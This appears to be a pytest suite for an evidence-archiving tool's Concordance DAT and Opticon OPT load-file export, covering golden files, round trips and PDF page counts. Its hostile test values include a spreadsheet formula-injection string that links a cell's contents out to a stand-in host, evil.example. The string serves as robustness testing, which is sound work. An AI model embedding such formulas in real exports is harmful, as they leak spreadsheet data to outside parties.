"""Concordance DAT and Opticon OPT: byte-exact output, hostile values, real PDFs, spec-following readers."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter

from vestige.errors import FormatError, InputError
from vestige.exports.exhibit import Exhibit, ExhibitArtifact
from vestige.exports.loadfile import (
    DAT_FIELDS,
    OptLine,
    native_artifact,
    pdf_page_count,
    read_dat,
    read_opt,
    write_dat,
    write_opt,
)

ASSETS = Path(__file__).parent.parent / "assets" / "loadfile"
# VESTIGE_REGENERATE_GOLDEN=1 pytest tests/exports/test_loadfile.py rewrites the golden file: review the diff.
REGENERATE = os.environ.get("VESTIGE_REGENERATE_GOLDEN") == "1"
THORN = "\u00fe"
DC4 = "\x14"

HOSTILE = {
    "newlines": "one\r\ntwo\nthree\rfour",
    "thorn": "þetta er Þór, þ",
    "dc4": "a\x14b\x14",
    "quotes and commas": 'He said "stop", then, left',
    "cyrillic": "Обстріл Харкова — відео",
    "arabic": "قصف المدينة ليلاً",
    "emoji": "💥 🇺🇦 👩‍👩‍👧",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "registered": "Brand® name",
    "controls": "nul\x00 bel\x07 esc\x1b del\x7f tab\t",
    "unicode line breaks": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "lone surrogate": "lone \ud800 half",
    "long url": "https://example.org/?q=" + "a" * 10_000,
    "empty": "",
}


def digests(seed: str) -> tuple[str, str]:
    return hashlib.sha256(seed.encode()).hexdigest(), hashlib.sha3_256(seed.encode()).hexdigest()


def artifact(role: str, name: str, path: str, member: str | None = None) -> ExhibitArtifact:
    sha256, blake3 = digests(path + (member or ""))
    return ExhibitArtifact(
        role, name, "application/octet-stream", 10, sha256, blake3, path, Path("/none"), member
    )


def page_capture(x: str = "UKR1-0001", **values: object) -> Exhibit:
    arts = (
        artifact("warc", "capture.warc.gz", f"WACZ/{x}.wacz", "archive/capture.warc.gz"),
        artifact("screenshot", "screenshot.png", f"NATIVES/{x}/screenshot.png"),
        artifact("pdf", "page.pdf", f"IMAGES/{x}.pdf"),
        artifact("dom", "dom.html", f"NATIVES/{x}/dom.html"),
        artifact("text", "text.txt", f"TEXT/{x}.txt"),
        artifact("provenance", "provenance.json", f"NATIVES/{x}/provenance.json"),
        artifact("media", "clip.mp4", f"NATIVES/{x}/clip.mp4"),
    )
    fields: dict[str, object] = {
        "exhibit_id": x,
        "item_id": "UKR1-0001",
        "case": "UKR1",
        "kind": "capture",
        "title": "Shelling of Kharkiv",
        "url": "https://example.org/news/1",
        "final_url": "https://example.org/news/1?amp",
        "state": "complete",
        "reason": None,
        "http_status": 200,
        "started": "2026-11-24T09:33:21.046593Z",
        "ended": "2026-11-24T09:33:40Z",
        "operator": "Olena K.",
        "artifacts": arts,
    }
    fields.update(values)
    return Exhibit(**fields)  # type: ignore[arg-type]


def document_capture(x: str = "UKR1-0002") -> Exhibit:
    arts = (
        artifact("warc", "capture.warc.gz", f"WACZ/{x}.wacz", "archive/capture.warc.gz"),
        artifact("document", "report.pdf", f"NATIVES/{x}/report.pdf"),
    )
    return page_capture(x, item_id="UKR1-0002", title=None, final_url=None, artifacts=arts)


def file_exhibit(x: str = "UKR1-0003") -> Exhibit:
    arts = (artifact("file", "statement.docx", f"NATIVES/{x}/statement.docx"),)
    return page_capture(
        x,
        item_id="UKR1-0003",
        kind="file",
        title="statement.docx",
        url=None,
        final_url=None,
        started=None,
        ended=None,
        http_status=None,
        artifacts=arts,
    )


def failed_capture(x: str = "UKR1-0004") -> Exhibit:
    arts = (
        artifact("warc", "capture.warc.gz", f"WACZ/{x}.wacz", "archive/capture.warc.gz"),
        artifact("screenshot", "screenshot.png", f"NATIVES/{x}/screenshot.png"),
    )
    return page_capture(x, item_id="UKR1-0004", state="failed", reason="DNS failure", artifacts=arts)


def as_read_back(value: str | None) -> str:
    """What a DAT value reads back as, by the documented rules, one character at a time."""
    out: list[str] = []
    for ch in (value or "").replace("\r\n", "\n"):
        if ch in "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\u00ae":
            out.append("\n")
        elif ch == THORN:
            out.append("\u00de")
        elif (ord(ch) < 0x20 and ch != "\t") or ch == "\x7f" or 0xD800 <= ord(ch) <= 0xDFFF:
            out.append("\ufffd")
        else:
            out.append(ch)
    return "".join(out)


def check_structure(raw: bytes, records: int) -> None:
    """The file as a loader splits it: BOM, CRLF records, n-1 separators and 2n qualifiers per record."""
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw[3:].split(b"\r\n")
    assert lines[-1] == b""
    lines = lines[:-1]
    assert len(lines) == records + 1
    for line in lines:
        assert b"\n" not in line and b"\r" not in line
        assert line.count(DC4.encode()) == len(DAT_FIELDS) - 1
        assert line.count(THORN.encode()) == 2 * len(DAT_FIELDS)
        for field in line.split(DC4.encode()):
            assert field.startswith(THORN.encode()) and field.endswith(THORN.encode())


# DAT


DOM, TEXT = "NATIVES/UKR1-0001/dom.html", "TEXT/UKR1-0001.txt"


def test_small_dat_byte_for_byte(tmp_path: Path) -> None:
    exhibit = page_capture(
        title="Title",
        url="https://example.org/",
        final_url=None,
        artifacts=(
            ExhibitArtifact("dom", "dom.html", "text/html", 5, "d" * 64, "e" * 64, DOM, Path("/none")),
            ExhibitArtifact("text", "text.txt", "text/plain", 5, "1" * 64, "2" * 64, TEXT, Path("/none")),
        ),
    )
    write_dat([exhibit], tmp_path / "loadfile.dat")
    expected = (
        "\ufeff"
        "þBEGDOCþ\x14þENDDOCþ\x14þCUSTODIANþ\x14þTITLEþ\x14þURLþ\x14þDATECAPTUREDþ\x14þSHA256HASHþ\x14"
        "þNATIVEPATHþ\x14þTEXTPATHþ\x14þBLAKE3HASHþ\x14þITEMIDþ\x14þKINDþ\x14þSTATEþ\x14þFINALURLþ\r\n"
        "þUKR1-0001þ\x14þUKR1-0001þ\x14þOlena K.þ\x14þTitleþ\x14þhttps://example.org/þ\x14"
        "þ2026-11-24 09:33:21þ\x14þ" + "d" * 64 + "þ\x14þNATIVES\\UKR1-0001\\dom.htmlþ\x14"
        "þTEXT\\UKR1-0001.txtþ\x14þ" + "e" * 64 + "þ\x14þUKR1-0001þ\x14þcaptureþ\x14þcompleteþ\x14þþ\r\n"
    ).encode("utf-8")
    assert (tmp_path / "loadfile.dat").read_bytes() == expected


def golden_exhibits() -> list[Exhibit]:
    return [
        page_capture(title=HOSTILE["newlines"] + " " + HOSTILE["thorn"], operator=HOSTILE["dc4"]),
        page_capture(
            "UKR1-0005",
            item_id="UKR1-0005",
            title=HOSTILE["cyrillic"] + HOSTILE["arabic"] + HOSTILE["emoji"],
            url=HOSTILE["formula"],
            final_url=HOSTILE["quotes and commas"],
            started="2026-01-02T03:04:05+02:00",
        ),
        document_capture(),
        file_exhibit(),
        failed_capture(),
    ]


def test_golden_dat(tmp_path: Path) -> None:
    golden = ASSETS / "hostile.dat"
    out = tmp_path / "loadfile.dat"
    write_dat(golden_exhibits(), out)
    if REGENERATE:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(out.read_bytes())
    assert out.read_bytes() == golden.read_bytes(), (
        "DAT bytes changed (VESTIGE_REGENERATE_GOLDEN=1 to accept)"
    )


def test_golden_dat_reads_as_documented() -> None:
    """The committed file, read by the spec reader: checks the bytes without trusting the writer."""
    raw = (ASSETS / "hostile.dat").read_bytes()
    check_structure(raw, 5)
    records = read_dat(ASSETS / "hostile.dat")
    assert [r["BEGDOC"] for r in records] == ["UKR1-0001", "UKR1-0005", "UKR1-0002", "UKR1-0003", "UKR1-0004"]
    first, second, document, added, failed = records
    assert first["TITLE"] == "one\ntwo\nthree\nfour Þetta er Þór, Þ"
    assert first["CUSTODIAN"] == "a\ufffdb\ufffd"
    assert first["NATIVEPATH"] == "NATIVES\\UKR1-0001\\dom.html"
    assert first["TEXTPATH"] == "TEXT\\UKR1-0001.txt"
    assert first["SHA256HASH"] == digests("NATIVES/UKR1-0001/dom.html")[0]
    assert first["BLAKE3HASH"] == digests("NATIVES/UKR1-0001/dom.html")[1]
    assert first["DATECAPTURED"] == "2026-11-24 09:33:21"
    assert second["URL"] == HOSTILE["formula"]
    assert second["FINALURL"] == HOSTILE["quotes and commas"]
    assert second["DATECAPTURED"] == "2026-01-02 01:04:05"  # converted to UTC
    assert document["NATIVEPATH"] == "NATIVES\\UKR1-0002\\report.pdf"
    assert document["TITLE"] == "" and document["TEXTPATH"] == ""
    assert added["NATIVEPATH"] == "NATIVES\\UKR1-0003\\statement.docx"
    assert added["DATECAPTURED"] == "" and added["KIND"] == "file" and added["URL"] == ""
    assert failed["NATIVEPATH"] == "NATIVES\\UKR1-0004\\screenshot.png"
    assert failed["STATE"] == "failed"
    assert all(r["BEGDOC"] == r["ENDDOC"] for r in records)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_values_round_trip(tmp_path: Path, name: str) -> None:
    value = HOSTILE[name]
    exhibit = page_capture(title=value, url=value, final_url=value, operator=value)
    out = tmp_path / "loadfile.dat"
    write_dat([exhibit], out)
    check_structure(out.read_bytes(), 1)
    (record,) = read_dat(out)
    for field in ("TITLE", "URL", "FINALURL", "CUSTODIAN"):
        assert record[field] == as_read_back(value)
    assert record["BEGDOC"] == "UKR1-0001"


def test_none_values_are_empty(tmp_path: Path) -> None:
    exhibit = page_capture(title=None, url=None, final_url=None, started=None, artifacts=())
    write_dat([exhibit], tmp_path / "l.dat")
    (record,) = read_dat(tmp_path / "l.dat")
    for field in ("TITLE", "URL", "FINALURL", "DATECAPTURED", "SHA256HASH", "NATIVEPATH", "TEXTPATH"):
        assert record[field] == ""


@settings(max_examples=200, deadline=None)
@given(st.text(), st.text(st.characters(codec="utf-8"), max_size=50))
def test_any_text_round_trips_as_one_record(
    tmp_path_factory: pytest.TempPathFactory, title: str, url: str
) -> None:
    out = tmp_path_factory.mktemp("dat") / "l.dat"
    write_dat([page_capture(title=title, url=url), file_exhibit()], out)
    check_structure(out.read_bytes(), 2)
    first, second = read_dat(out)
    assert first["TITLE"] == as_read_back(title)
    assert first["URL"] == as_read_back(url)
    assert second["BEGDOC"] == "UKR1-0003"


def test_native_choice() -> None:
    def path(e: Exhibit) -> str | None:
        a = native_artifact(e)
        return a.bundle_path if a else None

    assert path(page_capture()) == "NATIVES/UKR1-0001/dom.html"  # not the media it also kept
    assert path(document_capture()) == "NATIVES/UKR1-0002/report.pdf"
    assert path(file_exhibit()) == "NATIVES/UKR1-0003/statement.docx"
    assert path(failed_capture()) == "NATIVES/UKR1-0004/screenshot.png"
    assert path(page_capture(artifacts=page_capture().artifacts[:1])) is None  # a WARC is never the native


@pytest.mark.parametrize("name", ["a\\b.txt", "a\nb.txt", "aþb.txt", "a®b.txt", "a\x14b.txt"])
def test_paths_that_cannot_be_written_are_refused(tmp_path: Path, name: str) -> None:
    exhibit = file_exhibit()
    bad = artifact("file", name, f"NATIVES/UKR1-0003/{name}")
    with pytest.raises(InputError, match="cannot be written in a load file"):
        write_dat([page_capture(kind="file", artifacts=(bad,))], tmp_path / "l.dat")
    write_dat([exhibit], tmp_path / "l.dat")  # a path with commas or spaces is fine in a DAT
    comma = artifact("file", "a, b.txt", "NATIVES/UKR1-0003/a, b.txt")
    write_dat([page_capture(kind="file", artifacts=(comma,))], tmp_path / "l.dat")
    assert read_dat(tmp_path / "l.dat")[0]["NATIVEPATH"] == "NATIVES\\UKR1-0003\\a, b.txt"


def test_invalid_capture_time_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="capture time"):
        write_dat([page_capture(started="yesterday")], tmp_path / "l.dat")
    with pytest.raises(InputError, match="no time zone"):
        write_dat([page_capture(started="2026-11-24T09:33:21")], tmp_path / "l.dat")


def test_empty_export_has_only_the_header(tmp_path: Path) -> None:
    write_dat([], tmp_path / "l.dat")
    check_structure((tmp_path / "l.dat").read_bytes(), 0)
    assert read_dat(tmp_path / "l.dat") == []


# read_dat on files other writers could produce, and on broken ones


def test_reader_accepts_no_bom_lf_bare_fields_and_qualified_newlines(tmp_path: Path) -> None:
    path = tmp_path / "other.dat"
    path.write_bytes("þAþ\x14B\nþ1þ\x14two®lines\nþx\r\nyþ\x14\n".encode())
    assert read_dat(path) == [{"A": "1", "B": "two\nlines"}, {"A": "x\r\ny", "B": ""}]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        ("þAþ\x14þBþ\r\nþ1þ\r\n".encode(), "record 1 has 1 fields"),
        ("þAþ\r\nþ1þx\r\n".encode(), "stray text"),
        ("þAþ\r\nþunterminated\r\n".encode(), "stray text"),
        ("þAþ\x14þAþ\r\n".encode(), "repeated"),
        (b"\xef\xbb\xbf\xfe\x41\xfe\r\n", "not UTF-8"),  # þ in Windows-1252, not UTF-8
    ],
)
def test_reader_refuses_broken_files(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "bad.dat"
    path.write_bytes(content)
    with pytest.raises(FormatError, match=message):
        read_dat(path)


# PDFs and OPT


def pypdf_pdf(path: Path, pages: int) -> Path:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def hand_made_pdf(path: Path, pages: int) -> Path:
    """A minimal PDF 1.4 built byte by byte, with a correct cross-reference table (no PDF library)."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path


@pytest.mark.parametrize("pages", [1, 3, 12])
def test_pdf_page_count(tmp_path: Path, pages: int) -> None:
    assert pdf_page_count(pypdf_pdf(tmp_path / "a.pdf", pages)) == pages
    assert pdf_page_count(hand_made_pdf(tmp_path / "b.pdf", pages)) == pages


def test_pdf_page_count_of_broken_files(tmp_path: Path) -> None:
    (tmp_path / "junk.pdf").write_bytes(b"this is not a PDF")
    with pytest.raises(FormatError, match="not a readable PDF"):
        pdf_page_count(tmp_path / "junk.pdf")
    with pytest.raises(FormatError, match="no pages"):
        pdf_page_count(hand_made_pdf(tmp_path / "empty.pdf", 0))
    with pytest.raises(InputError, match="cannot be read"):
        pdf_page_count(tmp_path / "missing.pdf")


@pytest.mark.slow
def test_pdf_page_count_of_a_chromium_print(tmp_path: Path) -> None:
    """The exhibit PDFs are Chromium's prints: three forced page breaks give three pages."""
    from playwright.sync_api import sync_playwright

    from vestige.archiver.browser import find_chromium, launch_args

    html = "".join(f'<div style="break-after: page">page {i}</div>' for i in range(1, 4))
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=find_chromium(pw), headless=True, args=launch_args([]))
        page = browser.new_page()
        page.set_content(f"<html><body>{html}</body></html>")
        (tmp_path / "print.pdf").write_bytes(page.pdf())
        browser.close()
    assert pdf_page_count(tmp_path / "print.pdf") == 3


def test_opt_lines_from_real_pdfs(tmp_path: Path) -> None:
    exhibits = [page_capture("UKR-OTP-0001-0001"), document_capture(), page_capture("UKR-OTP-0001-0003")]
    counts = {
        "UKR-OTP-0001-0001": pdf_page_count(pypdf_pdf(tmp_path / "one.pdf", 4)),
        "UKR-OTP-0001-0003": pdf_page_count(hand_made_pdf(tmp_path / "three.pdf", 1)),
    }
    out = tmp_path / "images.opt"
    write_opt(exhibits, out, counts)
    assert out.read_bytes() == (
        b"UKR-OTP-0001-0001,,IMAGES\\UKR-OTP-0001-0001.pdf,Y,,,4\r\n"
        b"UKR-OTP-0001-0003,,IMAGES\\UKR-OTP-0001-0003.pdf,Y,,,1\r\n"
    )
    assert read_opt(out) == [
        OptLine("UKR-OTP-0001-0001", "", "IMAGES\\UKR-OTP-0001-0001.pdf", True, "", "", 4),
        OptLine("UKR-OTP-0001-0003", "", "IMAGES\\UKR-OTP-0001-0003.pdf", True, "", "", 1),
    ]


def test_opt_keys_match_dat_begdoc(tmp_path: Path) -> None:
    exhibits = [page_capture("UKR-OTP-0001-0001"), file_exhibit("UKR-OTP-0001-0002")]
    write_dat(exhibits, tmp_path / "l.dat")
    write_opt(exhibits, tmp_path / "i.opt", {"UKR-OTP-0001-0001": 2})
    begdocs = {r["BEGDOC"] for r in read_dat(tmp_path / "l.dat")}
    assert {line.image_key for line in read_opt(tmp_path / "i.opt")} <= begdocs


def test_opt_needs_a_page_count_for_every_pdf(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no page count"):
        write_opt([page_capture()], tmp_path / "i.opt", {})
    with pytest.raises(InputError, match="no page count"):
        write_opt([page_capture()], tmp_path / "i.opt", {"UKR1-0001": 0})


def test_opt_refuses_values_it_cannot_hold(tmp_path: Path) -> None:
    pdf = artifact("pdf", "page.pdf", "IMAGES/a,b.pdf")
    with pytest.raises(InputError, match="Opticon"):
        write_opt([page_capture(artifacts=(pdf,))], tmp_path / "i.opt", {"UKR1-0001": 1})


def test_opt_reader_follows_the_page_level_convention(tmp_path: Path) -> None:
    """Other producers write one line per TIFF page, the count on the first; the reader takes both forms."""
    path = tmp_path / "pages.opt"
    path.write_bytes(
        b"ABC0001,VOL001,IMAGES\\001\\ABC0001.tif,Y,,,2\nABC0002,VOL001,IMAGES\\001\\ABC0002.tif,,,,\n"
    )
    assert read_opt(path) == [
        OptLine("ABC0001", "VOL001", "IMAGES\\001\\ABC0001.tif", True, "", "", 2),
        OptLine("ABC0002", "VOL001", "IMAGES\\001\\ABC0002.tif", False, "", "", None),
    ]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (b"A,,IMAGES\\A.pdf,Y,,\r\n", "6 fields"),
        (b"A,,IMAGES\\A.pdf,Y,,,3,x\r\n", "8 fields"),
        (b",,IMAGES\\A.pdf,Y,,,3\r\n", "no image key"),
        (b"A,,IMAGES\\A.pdf,N,,,3\r\n", "document break"),
        (b"A,,IMAGES\\A.pdf,Y,,,three\r\n", "page count"),
        ("Ä,,IMAGES\\A.pdf,Y,,,3\r\n".encode(), "not ASCII"),
    ],
)
def test_opt_reader_refuses_broken_lines(tmp_path: Path, line: bytes, message: str) -> None:
    path = tmp_path / "bad.opt"
    path.write_bytes(line)
    with pytest.raises(FormatError, match=message):
        read_opt(path)
